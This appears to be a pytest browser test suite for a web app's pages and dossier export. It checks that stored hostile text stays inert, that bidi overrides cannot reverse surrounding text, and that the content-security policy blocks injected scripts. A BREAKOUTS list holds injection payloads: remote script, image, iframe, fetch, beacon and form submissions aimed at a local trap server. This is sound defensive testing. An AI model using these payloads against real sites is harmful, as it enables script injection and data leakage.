"""A page made of hostile text runs nothing, asks nobody and stays where it is; a trap beside the desk listens."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from tests.browser.driving import looking, served
from tests.web.fixture import DOSSIER
from tests.web.hostile import disguised, strange
from tests.web.shelved import shelved
from tests.web.test_timeline_and_map import happening

from stemma.web.dossier import render

VARIABLE = re.compile(r"(?<=/article/).*|(?<=/point/).*|[?#].*")
"""What tells two addresses of one sort of page apart."""

LEAKS = """() => {
  const leaks = [], texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (texts.nextNode()) {
    const text = texts.currentNode;
    if (!/[\\u202e\\u2066]/.test(text.data) || text.parentElement.closest("script, style, title, [hidden]")) continue;
    let box = text.parentElement, own = text;
    while (!/isolate|plaintext/.test(getComputedStyle(box).unicodeBidi) && getComputedStyle(box).display === "inline") {
      own = box; box = box.parentElement;
    }
    const after = [];
    for (let next = own.nextSibling; next; next = next.nextSibling) after.push(next.textContent);
    if (after.join("").trim()) leaks.push(box.outerHTML.slice(0, 80) + " … " + after.join("").trim().slice(0, 60));
  }
  return leaks;
}"""
"""Elements in which an override of the text would turn around what the page itself says after it."""


class Trap:
    """A server that should never be asked, and what it was asked for."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        trap = self

        class Listener(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                trap.asked.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *told: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
        self.address = f"http://127.0.0.1:{self.server.server_address[1]}"


@contextmanager
def listening() -> Iterator[Trap]:
    trap = Trap()
    threading.Thread(target=trap.server.serve_forever, daemon=True).start()
    yield trap
    trap.server.shutdown()
    trap.server.server_close()


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    with listening() as trap:
        yield trap


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, trap: Trap) -> Iterator[str]:
    """The address of a desk with nothing but hostile text."""
    story = disguised(happening(DOSSIER), strange(trap.address))
    with served(shelved(tmp_path_factory.mktemp("hostile") / "hostile.db", story)) as address:
        yield address


def found_unharmed(page: Any) -> None:
    """The page shows the hostile text as text, and nothing in it did anything."""
    assert page.evaluate("typeof hit") == "undefined"
    assert page.locator("img, iframe, base, meta[http-equiv=refresh], a[href^='javascript:']").count() == 0
    assert page.locator("h1").is_visible(), "a style in the text would have hidden all"
    assert page.locator("[onload], [onerror], [onfocus], [autofocus], [tabindex='1']").count() == 0
    assert page.evaluate(LEAKS) == []


def test_the_trap_hears_who_asks(chromium: Any) -> None:
    """Without this the tests below could not fail."""
    page = chromium.new_page()
    with listening() as trap:
        page.goto("about:blank")
        page.set_content(f"<p>{strange(trap.address)}</p>")
        page.wait_for_function("window.hit === 1")
        page.close()
        assert trap.asked


def test_an_override_that_turns_around_what_follows_is_seen(chromium: Any) -> None:
    page = chromium.new_page()
    page.set_content("<p><span>\u202eturned</span> 3 lines</p><p><bdi>\u202eheld</bdi> 3 lines</p>")
    (leak,) = page.evaluate(LEAKS)
    page.close()
    assert "turned" in leak and leak.endswith("3 lines")


def test_no_page_of_a_hostile_desk_does_what_its_text_says(chromium: Any, hostile: str, trap: Trap) -> None:
    with looking(chromium, hostile) as page:
        seen: set[str] = set()
        waiting = ["/", "/inputs", "/search?q=harbour"]
        while waiting:
            address = waiting.pop()
            if (kind := VARIABLE.sub("", address)) in seen:
                continue
            seen.add(kind)
            page.goto(address)
            found_unharmed(page)
            waiting += page.eval_on_selector_all("a[href^='/']", "all => all.map(a => a.getAttribute('href'))")
        assert len(seen) > 14
    assert trap.asked == []


def test_a_hostile_dossier_does_nothing_either(chromium: Any, tmp_path: Path, trap: Trap) -> None:
    path = tmp_path / "hostile.html"
    path.write_text(render(disguised(happening(DOSSIER), strange(trap.address))), "utf-8")
    with looking(chromium, path.as_uri()) as page:
        page.goto(path.as_uri())
        found_unharmed(page)
        page.keyboard.press("/")
        page.keyboard.type("<script>")
        found_unharmed(page)
    assert trap.asked == []


BREAKOUTS = {
    "a script written into the page": "s => { const e = document.createElement('script'); e.textContent = 'hit = 1'; s(e) }",
    "a style written into the page": "s => { const e = document.createElement('style'); e.textContent = 'h1 {}'; s(e) }",
    "a script from elsewhere": "s => { const e = document.createElement('script'); e.src = TRAP + '/s'; s(e) }",
    "a picture from elsewhere": "s => { const e = document.createElement('img'); e.src = TRAP + '/i'; s(e) }",
    "a frame": "s => { const e = document.createElement('iframe'); e.src = TRAP + '/f'; s(e) }",
    "a request": "s => { fetch(TRAP + '/r').catch(() => 0) }",
    "a beacon": "s => { navigator.sendBeacon(TRAP + '/n', '1') }",
    "a form": "s => { const e = document.createElement('form'); e.action = TRAP + '/p'; s(e); e.submit() }",
    "words run as script": "s => { setTimeout('hit = 1') }",
}
"""What a script that got in would try; the page's own policy has to stop each of them."""


@pytest.mark.parametrize("how", BREAKOUTS)
@pytest.mark.parametrize("where", ["desk", "dossier"])
def test_the_policy_holds_even_against_what_runs_in_the_page(
    chromium: Any, where: str, how: str, request: pytest.FixtureRequest, trap: Trap
) -> None:
    address = request.getfixturevalue(where)
    page = chromium.new_page()
    page.goto(address)
    tried = BREAKOUTS[how].replace("TRAP", repr(trap.address))
    refused = page.evaluate(
        f"""() => new Promise(done => {{
          addEventListener("securitypolicyviolation", told => done(told.effectiveDirective));
          ({tried})(e => document.body.append(e));
          setTimeout(() => done("nothing refused it"), 3000);
        }})"""
    )
    assert refused.endswith(("-src", "-elem", "-action")), refused
    assert page.evaluate("typeof hit") == "undefined"
    page.close()
    assert trap.asked == []
